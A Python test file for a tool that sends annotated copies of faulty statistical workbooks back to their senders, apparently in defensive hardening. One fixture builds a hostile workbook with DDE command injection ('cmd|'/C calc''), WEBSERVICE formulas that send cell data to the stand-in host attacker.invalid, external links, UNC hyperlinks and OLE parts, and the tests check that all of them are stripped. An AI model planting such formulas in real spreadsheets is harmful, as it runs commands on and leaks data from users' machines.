"""Copies of faulty workbooks for their senders."""

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from tests.hardening import books
from tests.hostile import TEXTS

from helpers.quality import annotate
from helpers.quality.annotate import annotated, copy_name, write_annotated
from helpers.vocabulary.findings import finding, findings_frame

PLACE = {"vi": "Xã Một", "en": "Một"}
WHAT = {"vi": "Số hộ nghèo", "en": "Poor households"}


def wrong(cell, workbook="a.xlsx", sheet="Biểu 1", printed="-3"):
    return finding(
        "Q411", workbook=workbook, sheet=sheet, cell=cell, printed=printed, expected="≥ 0", what=WHAT, place=PLACE
    )


def asked(cell, workbook="a.xlsx", sheet="Biểu 1"):
    words = {
        "value": {"vi": "9", "en": "9"},
        "before": {"vi": "5", "en": "5"},
        "date": PLACE,
        "change": {"vi": "+80", "en": "+80"},
    }
    return finding("Q523", workbook=workbook, sheet=sheet, cell=cell, printed="9", what=WHAT, place=PLACE, **words)


def test_the_sender_is_not_told_what_the_office_has_to_mend_in_its_list_of_files(folder):
    changed = finding("Q103", workbook="a.xlsx", expected="0f")
    (path,) = write_annotated(folder, findings_frame([changed, wrong("C5")]), folder / "out")
    told = [cell.value for row in openpyxl.load_workbook(path)[annotate.LIST] for cell in row]
    assert "Q411" in told
    assert "Q103" not in told


@pytest.fixture
def folder(tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Biểu 1"
    sheet["A1"], sheet["C5"], sheet["C6"] = "TỔNG HỢP", -3, 9
    sheet["B5"] = "Xã Một"
    sheet.merge_cells("B5:B6")
    sheet["D5"] = "=C5*2"
    book.save(tmp_path / "a.xlsx")
    return tmp_path


def opened(data):
    return openpyxl.load_workbook(io.BytesIO(data))


def test_cells_are_coloured_and_noted_in_both_languages(folder):
    book = opened(annotated(folder / "a.xlsx", findings_frame([wrong("C5"), asked("C6")])))
    sheet = book["Biểu 1"]
    assert sheet["C5"].fill.fgColor.rgb.endswith("FFC7CE")
    assert sheet["C6"].fill.fgColor.rgb.endswith("FFEB9C")
    assert sheet["C5"].comment.text.startswith("Lỗi Q411: “Số hộ nghèo” của Xã Một là số âm (-3)")
    assert "Error: “Poor households” of Một is negative (-3)" in sheet["C5"].comment.text


def test_values_and_merged_ranges_stay_at_their_addresses(folder):
    sheet = opened(annotated(folder / "a.xlsx", findings_frame([wrong("C5")])))["Biểu 1"]
    assert (sheet["A1"].value, sheet["C5"].value, sheet["C6"].value) == ("TỔNG HỢP", -3, 9)
    assert sheet["D5"].value is None  # a formula that was never calculated shows nothing
    assert [str(area) for area in sheet.merged_cells.ranges] == ["B5:B6"]


OUTSIDE = "attacker.invalid"


@pytest.fixture
def reaching_out(folder):
    """A workbook that asks other programs, files and hosts from every place that can: none of it is in a value."""
    path = folder / "a.xlsx"
    book = openpyxl.load_workbook(path)
    sheet = book.active
    for name, target in {"Auto": "cmd|'/C calc'!$A$0", "Ext": f"'[http://{OUTSIDE}/x.xlsx]S'!$A$1"}.items():
        book.defined_names[name] = DefinedName(name, attr_text=target)
    asks = f'WEBSERVICE("http://{OUTSIDE}/?"&A1)'
    sheet["E5"], sheet["E6"], sheet["E7"] = f"={asks}", "=cmd|'/C calc'!A0", "=Auto"
    sheet["C5"].hyperlink = f"http://{OUTSIDE}/?q=1"
    sheet["C6"].hyperlink = f"file:////{OUTSIDE}/share/x.xlsx"
    sheet["C6"].number_format = f'0;"http://{OUTSIDE}"'
    sheet.conditional_formatting.add("C5", FormulaRule(formula=[asks]))
    rule = DataValidation(type="custom", formula1=asks)
    rule.add("C6")
    sheet.add_data_validation(rule)
    sheet.oddHeader.center.text, book.properties.creator = OUTSIDE, OUTSIDE
    book.save(path)
    with zipfile.ZipFile(path, "a") as package:
        package.writestr("xl/connections.xml", f'<connections><webPr url="http://{OUTSIDE}"/></connections>')
        package.writestr("xl/embeddings/oleObject1.bin", OUTSIDE)
    return path


def test_nothing_that_reaches_out_of_a_workbook_is_in_its_copy(reaching_out):
    data = annotated(reaching_out, findings_frame([wrong("C5"), asked("C6")]))
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        parts = {name: package.read(name).decode("utf-8") for name in package.namelist()}
    whole = "\n".join([*parts, *parts.values()])
    for mark in (OUTSIDE, "cmd|", "WEBSERVICE", "<definedName ", "<f>", 'TargetMode="External"', "<dataValidation",
                 "<conditionalFormatting", "externalLink", "connections", "embeddings"):  # fmt: skip
        assert mark not in whole, mark
    sheet = opened(data)["Biểu 1"]
    marked = {c.coordinate: c.fill.fgColor.rgb[-6:] for row in sheet for c in row if c.comment}
    assert marked == {"C5": "FFC7CE", "C6": "FFEB9C"}
    assert (sheet["C5"].value, sheet["C6"].value) == (-3, 9)


#: All that a copy is made of: parts, and elements of sheets.
PARTS = re.compile(
    r"\[Content_Types\].xml|_rels/.rels|docProps/(app|core).xml|xl/(workbook|styles|sharedStrings|comments\d|theme/theme1).xml"
    r"|xl/(worksheets/)?_rels/(workbook|sheet\d).xml.rels|xl/worksheets/sheet\d.xml|xl/drawings/vmlDrawing\d.vml"
)
ELEMENTS = {
    "worksheet", "sheetPr", "pageSetUpPr", "dimension", "sheetViews", "sheetView", "pane", "selection", "sheetFormatPr", "cols", "col",
    "sheetData", "row", "c", "v", "mergeCells", "mergeCell", "hyperlinks", "hyperlink", "pageMargins", "pageSetup", "legacyDrawing",
}  # fmt: skip


@pytest.mark.parametrize("kind", books.WRITERS)
def test_a_copy_of_every_kind_of_file_is_made_of_values_colours_and_notes_alone(kind, tmp_path):
    book = books.sound()[:1]
    book[0].name = "=cmd|'/C calc'!A0"
    book[0].rows += [[text, f"={text}", f"+{text}", f"@{text}"] for text in TEXTS.values() if "\0" not in text]
    (tmp_path / f"a.{kind}").write_bytes(books.WRITERS[kind](book))
    with zipfile.ZipFile(
        io.BytesIO(annotated(tmp_path / f"a.{kind}", findings_frame([wrong("A20", sheet="[1]")])))
    ) as made:
        sheets = {name: made.read(name).decode() for name in made.namelist() if "sheets/sheet" in name}
        links = [
            link
            for name in made.namelist()
            if name.endswith(".rels")
            for link in re.findall("TargetMode", str(made.read(name)))
        ]
        assert [name for name in made.namelist() if not PARTS.fullmatch(name)] == []
    assert len(sheets) == 2
    assert {name for text in sheets.values() for name in re.findall(r"<(\w+)", text)} <= ELEMENTS
    assert links == []


def test_a_sheet_of_any_name_is_found_again_and_two_notes_of_a_merged_area_are_one(tmp_path):
    book = [
        books.Sheet("Cần kiểm tra", [["x"]]),
        books.Sheet("a" * 40, [[None], [None, -3], [None, None]], (((1, 1), (2, 2)), ((2, 2), (3, 3)))),
    ]
    (tmp_path / "a.ods").write_bytes(books.to_ods(book))
    found = [wrong("B2", "a.ods", "a" * 40), asked("C3", "a.ods", "a" * 40)]
    made = opened(annotated(tmp_path / "a.ods", findings_frame(found)))
    assert made.sheetnames == ["Cần kiểm tra", "Cần kiểm tra (2)", "a" * 31]
    noted = [cell.comment.text for row in made["a" * 31] for cell in row if cell.comment]
    assert sum("Q411" in note for note in noted) == sum("Q523" in note for note in noted) == 1


def test_of_a_workbook_that_would_fill_the_memory_the_list_alone_is_sent(folder, monkeypatch):
    monkeypatch.setattr(annotate, "MOST_CELLS", 3)
    assert opened(annotated(folder / "a.xlsx", findings_frame([wrong("C5")]))).sheetnames == ["Cần kiểm tra"]


def test_the_first_sheet_lists_all_worst_first_with_links(folder):
    book = opened(annotated(folder / "a.xlsx", findings_frame([asked("C6"), wrong("C5")])))
    first = book.worksheets[0]
    assert book.active.title == first.title == "Cần kiểm tra"
    assert first["A1"].value == "Kết quả kiểm tra a.xlsx: 1 lỗi (số liệu không được dùng), 1 cảnh báo, 0 ghi chú"
    assert [first.cell(row, 2).value for row in (5, 6)] == ["Q411", "Q523"]
    assert first["D5"].hyperlink.location == "'Biểu 1'!C5"


def test_a_finding_inside_a_merged_area_is_noted_on_its_first_cell(folder):
    book = opened(annotated(folder / "a.xlsx", findings_frame([wrong("B6", printed="x")])))
    assert book["Biểu 1"]["B5"].comment is not None


def test_several_findings_of_a_cell_stand_in_one_note_under_the_worst_colour(folder):
    sheet = opened(annotated(folder / "a.xlsx", findings_frame([asked("C5"), wrong("C5")])))["Biểu 1"]
    assert sheet["C5"].fill.fgColor.rgb.endswith("FFC7CE")
    assert "Q411" in sheet["C5"].comment.text
    assert "Q523" in sheet["C5"].comment.text


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_hostile_text_stays_text(folder, text):
    book = opened(annotated(folder / "a.xlsx", findings_frame([wrong("C5", printed=text)])))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)


def test_a_csv_gets_an_xlsx_copy_at_the_same_addresses(tmp_path):
    with (tmp_path / "b.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["unit", "printed"], ["Xã Một", "=1+1"], ["Xã Hai", "5,90%"]])
    book = opened(annotated(tmp_path / "b.csv", findings_frame([wrong("B3", "b.csv", "")])))
    sheet = book.worksheets[1]
    assert sheet["B3"].value == "5,90%"
    assert sheet["B3"].comment is not None
    assert sheet["B2"].data_type == "s"


def test_a_file_that_cannot_be_opened_gets_the_list_alone(tmp_path):
    (tmp_path / "c.xlsx").write_bytes(b"PK not a workbook")
    book = opened(annotated(tmp_path / "c.xlsx", findings_frame([wrong("C5", "c.xlsx")])))
    assert book.sheetnames == ["Cần kiểm tra"]


def test_a_file_with_personal_data_is_never_copied(folder):
    refused = finding("Q701", workbook="a.xlsx", sheet="Biểu 1", cell="B5")
    book = opened(annotated(folder / "a.xlsx", findings_frame([refused])))
    assert book.sheetnames == ["Cần kiểm tra"]


def test_the_same_findings_make_the_same_bytes(folder):
    findings = findings_frame([wrong("C5"), asked("C6")])
    assert annotated(folder / "a.xlsx", findings) == annotated(folder / "a.xlsx", findings)


def test_only_faulty_workbooks_get_a_copy_and_mended_ones_lose_theirs(folder):
    out = folder / "returns"
    note = finding("Q602", workbook="a.xlsx", what=WHAT, place=PLACE, old=PLACE, reason="r", by="b", on=PLACE)
    assert write_annotated(folder, findings_frame([wrong("C5")]), out) == [out / "a-ghi-chu.xlsx"]
    assert write_annotated(folder, findings_frame([note]), out) == []
    assert list(out.iterdir()) == []


def test_a_file_that_was_not_read_may_list_persons_and_gets_no_copy(folder):
    unlisted, changed = (finding(code, workbook="a.xlsx") for code in ("Q102", "Q103"))
    assert write_annotated(folder, findings_frame([unlisted]), folder / "out") == []
    assert write_annotated(folder, findings_frame([changed]), folder / "out") == []
    assert write_annotated(folder, findings_frame([changed, wrong("C5")]), folder / "out") != []


def test_a_workbook_outside_the_folder_is_not_touched(folder):
    (folder / "raw").mkdir()
    assert write_annotated(folder / "raw", findings_frame([wrong("C5", "../a.xlsx")]), folder / "out") == []


@pytest.mark.parametrize(
    ("workbook", "name"),
    [("a.xlsx", "a-ghi-chu.xlsx"), ("a.csv", "a-csv-ghi-chu.xlsx"), ("xa/b.xls", "xa-b-xls-ghi-chu.xlsx")],
)
def test_copies_are_named_after_their_workbook(workbook, name):
    assert copy_name(workbook) == name
    assert Path(copy_name(workbook)).name == name
